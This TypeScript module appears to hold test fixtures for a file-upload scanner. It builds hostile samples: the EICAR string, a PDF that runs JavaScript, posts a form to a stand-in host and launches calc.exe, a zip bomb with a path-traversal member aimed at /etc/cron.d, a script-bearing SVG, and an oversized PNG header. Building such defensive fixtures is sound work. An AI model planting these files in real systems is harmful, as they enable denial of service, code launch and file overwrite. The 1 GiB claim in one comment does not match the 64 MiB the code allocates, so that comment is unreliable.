import { crc32, deflateRawSync } from 'node:zlib';

/** The test string that every scanner of viruses knows; put together here so that none finds it in this file. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join(
  '',
);

/** Opens with a script, starts a program on closing, and is a link all over. */
export const SCRIPTED_PDF = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm("http://x.invalid"))>>
/AA<</WC<</S/Launch/F(calc.exe)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(http://x.invalid)>>>>]>>endobj
trailer<</Root 1 0 R>>
%%EOF
`;

/** A zip with one member that says it is small and swells to 1 GiB of zeros, and one that climbs out of its folder. */
export function zipBomb(): Buffer {
  const body = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
  const parts = [
    { name: 'so-lieu.txt', body, size: 64 * 1024 * 1024 },
    { name: '../../../etc/cron.d/x', body: deflateRawSync(Buffer.from('x')), size: 1 },
  ];
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc32(name), 14);
    local.writeUInt32LE(part.body.length, 18);
    local.writeUInt32LE(part.size, 22);
    local.writeUInt16LE(name.length, 26);
    const head = Buffer.alloc(46);
    head.writeUInt32LE(0x02014b50, 0);
    local.copy(head, 6, 4, 30);
    head.writeUInt32LE(at, 42);
    locals.push(local, name, part.body);
    central.push(head, name);
    at += local.length + name.length + part.body.length;
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(
    central.reduce((sum, one) => sum + one.length, 0),
    12,
  );
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...locals, ...central, end]);
}

export const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
/** Says that it is 2 000 000 000 points wide and high. */
export const HUGE_PNG = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d494844527fffffff7fffffff0802000000', 'hex'),
  Buffer.alloc(64),
]);

/** Begins and ends as a PDF, and is noise between. */
export const BROKEN_PDF = `%PDF-1.7\n${'\u00ff<<[/'.repeat(400)}\n%%EOF\n`;
